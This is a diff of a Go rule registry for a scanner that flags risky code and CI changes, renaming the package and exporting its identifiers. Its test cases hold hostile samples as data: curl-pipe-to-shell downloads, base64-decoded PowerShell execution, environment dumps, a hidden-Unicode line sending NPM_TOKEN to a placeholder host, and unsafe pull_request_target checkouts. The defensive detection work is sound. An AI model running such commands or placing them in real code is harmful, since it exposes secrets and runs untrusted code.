@@ -1,4 +1,4 @@
-package attention
+package rules
 
 import (
 	"fmt"
@@ -30,24 +30,24 @@ type Case struct {
 	Not  bool
 }
 
-// prtHeadInto is a pull_request_target workflow that checks the pull
+// PRTHeadInto is a pull_request_target workflow that checks the pull
 // request's head out into dir, with the steps after it.
-func prtHeadInto(dir, steps string) string {
+func PRTHeadInto(dir, steps string) string {
 	return "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          path: " + dir + "\n" + steps
 }
 
 // The reasons several rules share.
 const (
-	hiddenWhy   = "what the line shows is not what the compiler, shell or reviewer reads"
-	whyScript   = "a script the build or CI may call: read what it runs"
-	whyRunner   = "it runs on the project's runners with their network and secrets"
-	whyDownload = "code fetched at run time is not in this diff, yet it runs on the runner with its network and secrets"
-	whySecrets  = "the runner's environment holds its tokens and secrets; whoever reads this output gets them"
-	whySource   = "it changes where the code that is built and run comes from"
+	HiddenWhy   = "what the line shows is not what the compiler, shell or reviewer reads"
+	WhyScript   = "a script the build or CI may call: read what it runs"
+	WhyRunner   = "it runs on the project's runners with their network and secrets"
+	WhyDownload = "code fetched at run time is not in this diff, yet it runs on the runner with its network and secrets"
+	WhySecrets  = "the runner's environment holds its tokens and secrets; whoever reads this output gets them"
+	WhySource   = "it changes where the code that is built and run comes from"
 )
 
 // rules is the registry, by severity then family.
-var rules = []Rule{
+var registry = []Rule{
 	// ---- code that runs what the diff does not show
 	{"decode-and-run", KindDecodeExec, High, "decodes data and runs it",
 		"a payload nobody can read in the diff is decoded and run on the runner", []Case{
@@ -62,7 +62,7 @@ var rules = []Rule{
 			{"x.ps1", "[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p))).Invoke()", 0, false},
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 		}},
-	{"download-and-run", KindDownload, High, "downloads code and runs it", whyDownload, []Case{
+	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
 		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
@@ -158,7 +158,7 @@ var rules = []Rule{
 			{"x.sh", "echo \"$NPM_TOKEN\" | base64 > token.b64", 0, true},
 			{"x.sh", "echo \"$DOCKER_PASSWORD\" | docker login -u me --password-stdin", 0, true},
 		}},
-	{"env-exfiltration", KindCredential, High, "dumps the environment (secrets included)", whySecrets, []Case{
+	{"env-exfiltration", KindCredential, High, "dumps the environment (secrets included)", WhySecrets, []Case{
 		{"x.sh", "printenv > /tmp/e", 0, false},
 		{"x.sh", "env | sort", 0, true},
 	}},
@@ -269,13 +269,13 @@ var rules = []Rule{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test", 7, true},
 			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 9, true},
 			// The head checked out into its own folder runs when a step works there or runs a file from it.
-			{".github/workflows/a.yml", prtHeadInto("pr", "      - run: |\n          cd pr\n          npm ci"), 12, false},
-			{".github/workflows/a.yml", prtHeadInto("pr", "      - working-directory: pr\n        run: make docs"), 11, false},
-			{".github/workflows/a.yml", prtHeadInto("pr", "      - run: bash pr/scripts/preview.sh"), 10, false},
-			{".github/workflows/a.yml", prtHeadInto("pr", "      - run: pip install ./pr"), 10, false},
-			{".github/workflows/a.yml", prtHeadInto("pr", "      - uses: ./pr/.github/actions/preview"), 10, false},
+			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: |\n          cd pr\n          npm ci"), 12, false},
+			{".github/workflows/a.yml", PRTHeadInto("pr", "      - working-directory: pr\n        run: make docs"), 11, false},
+			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: bash pr/scripts/preview.sh"), 10, false},
+			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: pip install ./pr"), 10, false},
+			{".github/workflows/a.yml", PRTHeadInto("pr", "      - uses: ./pr/.github/actions/preview"), 10, false},
 			// The base branch's own tool reading the folder as data.
-			{".github/workflows/a.yml", prtHeadInto("pr", "      - run: |\n          npm ci\n          python tools/render.py --input ./pr/docs"), 0, true},
+			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: |\n          npm ci\n          python tools/render.py --input ./pr/docs"), 0, true},
 		}},
 	{"gha-artifact-credentials", KindCredential, High, "uploads the checkout's .git folder (with the job's token) or a credential file as an artifact",
 		"actions/checkout leaves the job's token in .git/config; whoever can read the run downloads the artifact and uses the token while the job still runs (ArtiPACKED)", []Case{
@@ -514,7 +514,7 @@ var rules = []Rule{
 		"the step, and whatever code it runs, gets the secret", nil},
 
 	// ---- hidden text
-	{"hidden-bidi", KindHiddenUnicode, High, "bidirectional-control characters reorder what you see (Trojan Source)", hiddenWhy, []Case{
+	{"hidden-bidi", KindHiddenUnicode, High, "bidirectional-control characters reorder what you see (Trojan Source)", HiddenWhy, []Case{
 		{"x.go", "// \u202e hidden", 0, false},
 	}},
 	{"hidden-payload", KindHiddenUnicode, High, "invisible characters (variation selectors, tags, zero-width) inside code",
@@ -550,7 +550,7 @@ var rules = []Rule{
 			{"x.js", "// see docs\u2028require('https').get('https://x.invalid/?t=' + process.env.NPM_TOKEN)", 0, false},
 			{"README.md", "a\u2028b", 0, true},
 		}},
-	{"hidden-text", KindHiddenUnicode, Medium, "invisible characters in the line", hiddenWhy, []Case{
+	{"hidden-text", KindHiddenUnicode, Medium, "invisible characters in the line", HiddenWhy, []Case{
 		{"README.md", "see\u200bthis", 0, false},
 	}},
 
@@ -567,7 +567,7 @@ var rules = []Rule{
 		"packages may come from an index the project does not control", nil},
 	{"decode", KindDecodeExec, Medium, "decodes base64 or hex in a command",
 		"decoded bytes are what runs or is written, and the diff does not show them", []Case{{"x.sh", "xxd -r -p payload.hex > a.out", 0, false}}},
-	{"docker-add-url", KindDownload, Medium, "Dockerfile ADD downloads a URL", whyDownload, []Case{{"Dockerfile", "ADD https://x.invalid/t.tgz /opt/", 0, false}}},
+	{"docker-add-url", KindDownload, Medium, "Dockerfile ADD downloads a URL", WhyDownload, []Case{{"Dockerfile", "ADD https://x.invalid/t.tgz /opt/", 0, false}}},
 	{"download", KindDownload, Medium, "downloads or calls a URL",
 		"what it fetches or sends is not in the diff; check where it goes and what uses it", []Case{{"x.py", "r = requests.get(url, timeout=5)", 0, false}}},
 	{"git-clone", KindDownload, Medium, "clones a git repository", "what it fetches is not in the diff",
@@ -607,13 +607,13 @@ var rules = []Rule{
 	// ---- whole files
 	{"ci-workflow", KindCIFile, Medium, "CI workflow", "a workflow runs on the project's runners with the repository's token and secrets once the change is tested; its lines are read rule by rule", nil},
 	{"ci-action", KindCIFile, Medium, "GitHub Action", "a local action runs inside the workflows that use it, with their token and secrets; its lines are read rule by rule", nil},
-	{"ci-config", KindCIFile, Medium, "CI config", whyRunner, nil},
+	{"ci-config", KindCIFile, Medium, "CI config", WhyRunner, nil},
 	{"test-config", KindTestConfig, Medium, "test configuration", "the test runner loads it on every run CI makes", nil},
 	{"git-hook", KindScript, Medium, "git hook", "runs at git commands wherever the hooks are installed, the runner's checkout included", nil},
 	{"envrc", KindScript, Medium, "direnv .envrc", "direnv runs it in every shell that enters the folder", nil},
 	{"editor-tasks", KindScript, Medium, "editor tasks", "an editor runs these tasks in the reviewer's own workspace", nil},
-	{"script", KindScript, Medium, "script", whyScript, nil},
-	{"executable-bit", KindScript, Medium, "file made executable", whyScript, nil},
+	{"script", KindScript, Medium, "script", WhyScript, nil},
+	{"executable-bit", KindScript, Medium, "file made executable", WhyScript, nil},
 	{"makefile", KindBuildFile, Medium, "Makefile", "make runs its recipes as shell commands during the build", nil},
 	{"dockerfile", KindBuildFile, Medium, "Dockerfile", "its RUN lines run at image build, on the runner with its network", nil},
 	{"compose", KindBuildFile, Medium, "Docker Compose file", "it decides which images run and what they mount during the build or tests", nil},
@@ -639,9 +639,9 @@ var rules = []Rule{
 }
 
 var ruleIndex = sync.OnceValue(func() map[string]*Rule {
-	m := make(map[string]*Rule, len(rules))
-	for i := range rules {
-		r := &rules[i]
+	m := make(map[string]*Rule, len(registry))
+	for i := range registry {
+		r := &registry[i]
 		if _, dup := m[r.ID]; dup {
 			panic("attention: rule " + r.ID + " declared twice")
 		}
@@ -650,16 +650,16 @@ var ruleIndex = sync.OnceValue(func() map[string]*Rule {
 	return m
 })
 
-// RuleByID returns the rule of that id, or nil.
-func RuleByID(id string) *Rule { return ruleIndex()[id] }
+// ByID returns the rule of that id, or nil.
+func ByID(id string) *Rule { return ruleIndex()[id] }
 
-// Rules returns the registry, for docs and tests.
-func Rules() []Rule { return rules }
+// All returns the registry, for docs and tests.
+func All() []Rule { return registry }
 
-// rule returns the registered rule of that id; an unknown id is a bug in a
+// Must returns the registered rule of that id; an unknown id is a bug in a
 // detector, caught by the tests.
-func rule(id string) *Rule {
-	r := RuleByID(id)
+func Must(id string) *Rule {
+	r := ByID(id)
 	if r == nil {
 		panic(fmt.Sprintf("attention: no rule %q", id))
 	}
